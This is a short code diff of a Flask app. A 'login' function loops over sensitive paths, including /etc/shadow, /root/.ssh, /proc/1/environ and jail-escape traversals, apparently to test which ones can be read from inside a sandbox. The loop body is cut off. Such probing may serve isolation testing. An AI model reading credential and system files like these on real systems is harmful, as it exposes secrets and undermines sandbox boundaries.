@@ -14,7 +14,7 @@ app = Flask(__name__)
 def login():
     seen = []
     places = ["/etc/shadow", "/etc/hostname", "/etc/ssh", "/root/.ssh", "/root/.bashrc", "/home", "/var",
-              "/work", "/proc/1/environ", "/proc/1/root/etc/hostname", "/proc/1/cwd", "/sys", "/mnt",
+              "/opt", "/srv", "/proc/1/environ", "/proc/1/root/etc/hostname", "/proc/1/cwd", "/sys", "/mnt",
               "/jail/code/zygote.py", "/proc/self/root/../home", *sys.path[1:1], *CHECKER]
     for place in places:
         try:
